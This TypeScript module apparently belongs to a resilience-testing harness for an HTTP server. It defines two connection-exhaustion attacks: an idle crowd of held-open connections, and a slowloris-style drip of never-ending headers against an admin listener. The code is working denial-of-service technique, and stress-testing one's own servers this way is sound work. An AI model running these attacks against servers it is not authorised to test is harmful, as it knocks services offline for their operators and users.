/** More connections than there is room for. */
import type { Attack } from './attack.ts'

/** A head that is never whole grows by a byte so often. */
const BYTE_EVERY_MS = 3_000

/** Each has one request answered, and stays. */
export const idleCrowd: Attack = (target, swarm, { connections }) => {
  const request = `GET / HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`
  swarm.keepMany(Number(connections), () => {
    const socket = swarm.connect(target.http, 'plain', () => socket.write(request))
    return socket.resume()
  })
}

/** At the admin listener, with heads that do not end. */
export const adminCrowd: Attack = (target, swarm, { connections }) => {
  swarm.keepMany(Number(connections), () => {
    const socket = swarm.connect(target.admin, 'plain', () => {
      socket.write('GET /livez HTTP/1.1\r\nHost: localhost\r\nX-Slow: ')
      const timer = setInterval(() => socket.write('x'), BYTE_EVERY_MS)
      socket.once('close', () => clearInterval(timer))
    })
    return socket.resume()
  })
}
